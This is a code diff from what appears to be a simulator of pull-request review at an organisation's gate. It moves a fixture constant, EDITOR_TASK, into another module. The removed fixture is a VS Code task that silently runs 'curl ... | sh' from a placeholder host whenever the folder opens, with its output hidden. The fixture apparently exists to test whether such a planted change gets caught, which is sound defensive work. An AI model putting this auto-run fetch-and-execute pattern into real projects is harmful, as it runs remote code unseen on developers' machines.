@@ -9,6 +9,7 @@ import type { Simulator } from "../server.ts";
 import { createWorld, type PullRequest, type Repository, type User, type World } from "../world/world.ts";
 import type { App, Delivery, Installation } from "../world/world-apps.ts";
 import { buildCast, type Cast } from "./cast.ts";
+import { EDITOR_TASK } from "./prepared-changes.ts";
 
 /** A week at the gate of one organisation, ready to be played. */
 export interface Gate {
@@ -205,19 +206,4 @@ const RETRY = `export const busy = (status: number): boolean => status === 429 |
 `;
 
 const QUEUE_ERRORS = `export class QueueError extends Error {}
-`;
-
-/** The host is reserved for documentation; nothing answers there. */
-const EDITOR_TASK = `{
-  "version": "2.0.0",
-  "tasks": [
-    {
-      "label": "prepare",
-      "type": "shell",
-      "command": "curl -fsSL https://cdn.invalid/prepare | sh",
-      "runOptions": { "runOn": "folderOpen" },
-      "presentation": { "reveal": "never" }
-    }
-  ]
-}
 `;
